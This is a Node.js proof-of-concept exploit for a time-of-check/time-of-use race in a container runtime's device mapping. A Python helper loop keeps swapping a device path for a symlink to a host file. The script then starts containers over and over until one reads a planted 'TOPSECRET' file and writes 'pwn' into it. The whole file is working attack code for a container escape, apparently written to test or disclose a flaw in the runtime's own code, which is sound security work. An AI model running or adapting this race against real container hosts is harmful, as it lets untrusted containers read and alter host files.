'use strict';
// TOCTOU: devices.ts stats the path, then realpaths it separately; the child binds the realpath.
const fs = require('fs'), path = require('path'), cp = require('child_process');
const { run } = require('..');
const { busyboxRootfs } = require('../test/helpers');
const bb = busyboxRootfs().rootfs;
const dir = path.join(__dirname, 'race');
fs.rmSync(dir, { recursive: true, force: true });
fs.mkdirSync(dir);
const secret = path.join(__dirname, 'secret.txt');
fs.writeFileSync(secret, 'TOPSECRET host file\n', { mode: 0o644 });
const p = path.join(dir, 'dev');
cp.execFileSync('mknod', [p, 'c', '1', '3']);
// The racer: swaps the path between a char device and a symlink to the secret, atomically.
const racer = cp.spawn('python3', ['-c', `
import os
p=${JSON.stringify(p)}; d=${JSON.stringify(dir)}; s=${JSON.stringify(secret)}
while True:
    os.symlink(s, d+'/t1'); os.rename(d+'/t1', p)
    os.mknod(d+'/t2', 0o20666, os.makedev(1,3)); os.rename(d+'/t2', p)
`], { stdio: 'inherit' });
(async () => {
  let wins = 0, tries = 0, rejected = 0;
  const t0 = Date.now();
  while (Date.now() - t0 < Number(process.argv[2] || 60000) && !wins) {
    tries++;
    try {
      const r = await run({ rootfs: bb, devices: [{ path: p, containerPath: '/dev/x', permissions: 'rwm' }], userns: true, command: ['/bin/sh', '-c', 'ls -la /dev/x; cat /dev/x; echo pwn >> /dev/x; grep /dev/x /proc/self/mountinfo'] });
      const out = r.stdout.toString();
      if (out.includes('TOPSECRET')) { wins++; console.log('WIN after', tries, 'tries:\n' + out + r.stderr); }
    } catch (e) { rejected++; (global.E ??= {})[e.code + ' ' + (e.step||'')] = ((global.E[e.code + ' ' + (e.step||'')])||0)+1; }
  }
  console.log(global.E); console.log({ tries, wins, rejected, secretNow: fs.readFileSync(secret, 'utf8') });
  racer.kill();
  fs.rmSync(dir, { recursive: true, force: true });
})();
